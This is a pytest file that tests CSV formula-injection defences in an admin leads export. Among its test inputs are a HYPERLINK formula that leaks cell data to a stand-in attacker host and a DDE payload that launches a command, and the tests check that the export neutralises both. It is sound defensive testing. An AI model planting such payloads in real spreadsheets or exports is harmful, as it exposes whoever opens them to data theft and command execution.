"""/admin/leads.csv opens in a spreadsheet: no cell a client wrote may run there as a formula."""

from __future__ import annotations

import csv
import io
import uuid

import pytest

from api.lead_csv import spreadsheet_safe
from models import LeadRecord

pytestmark = pytest.mark.asyncio(loop_scope="session")

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        (EVIL, "'" + EVIL),
        ("+44 7700 900000", "'+44 7700 900000"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("Leeds", "Leeds"),
        ("São Paulo = home", "São Paulo = home"),  # only a leading character makes a formula
        ("", ""),
        (None, None),
        (-5000, -5000),  # numbers we wrote are numbers, not text
        (200000, 200000),
    ],
)
async def test_spreadsheet_safe_neutralises_formula_openers(cell, written):
    assert spreadsheet_safe(cell) == written


async def test_leads_csv_writes_a_clients_formula_as_text(stack, sessions):
    lead_id = f"lead-csv-{uuid.uuid4().hex[:12]}"
    async with sessions.begin() as session:
        session.add(
            LeadRecord(
                lead_id=lead_id,
                contact_key=uuid.uuid4().hex,
                workflow_id=f"wf-{lead_id}",
                run_id="run",
                status="QUALIFYING",
                parsed={"city": EVIL, "country": "@cmd|' /C calc'!A0", "budget_pence": 90000},
                handover_reason="-1+1",
            )
        )
    response = await stack.http.get(
        "/admin/leads.csv", headers={"X-Admin-API-Key": stack.settings.ADMIN_API_KEY}
    )
    rows = {row["lead_id"]: row for row in csv.DictReader(io.StringIO(response.text))}
    ours = rows[lead_id]
    assert ours["city"] == "'" + EVIL
    assert ours["country"] == "'@cmd|' /C calc'!A0"
    assert ours["handover_reason"] == "'-1+1"
    assert ours["budget_pence"] == "90000"
    assert ours["status"] == "QUALIFYING"
